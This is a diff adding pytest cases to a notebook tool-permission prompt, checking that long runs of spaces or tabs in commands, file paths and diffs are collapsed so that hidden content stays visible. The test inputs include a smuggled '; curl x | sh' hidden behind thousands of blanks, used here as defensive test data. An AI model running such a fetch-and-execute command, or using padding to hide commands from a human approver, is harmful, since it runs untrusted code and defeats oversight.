@@ -11,7 +11,8 @@ from typing import Any
 import pytest
 
 from mentra_nb.authorization import PermissionDecision, PermissionQuestion, ToolAuthorizationPreview
-from mentra_nb.notebook.asking import arguments, ask, effect, question_text
+from mentra_nb.notebook.asking import arguments, ask, diff, effect, question_text
+from mentra_nb.notebook.changes import Changes
 
 
 def question(**planned: Any) -> PermissionQuestion:
@@ -58,6 +59,15 @@ def test_what_was_typed_before_the_question_does_not_answer_it(monkeypatch: pyte
 def test_what_stands_behind_a_long_run_of_blanks_is_in_sight() -> None:
     asked = question().model_copy(update={"arguments": {"command": "ls" + " " * 3000 + "; curl x | sh"}})
     assert arguments(asked) == "command: ls ␣×3000 ; curl x | sh"
+    asked = question().model_copy(update={"arguments": {"command": "ls" + "\t " * 99 + "; curl x | sh"}})
+    assert arguments(asked) == "command: ls ␣×198 ; curl x | sh"
+    path = "/a" + " " * 300 + "b"
+    shown = effect(question(operations=[{"op": "set", "resolved_path": path}], working_directory="/"))
+    assert shown == "file /a ␣×300 b"
+    assert diff(Changes(["+a" + " " * 300 + "b", "+" + " " * 24 + "c"], 2, 0), 9) == [
+        "+a ␣×300 b",
+        "+" + " " * 24 + "c",
+    ]
     assert arguments(question().model_copy(update={"arguments": {"code": "if a:\n" + " " * 24 + "b"}})) == (
         "code:\n  │ if a:\n  │ " + " " * 24 + "b"
     )
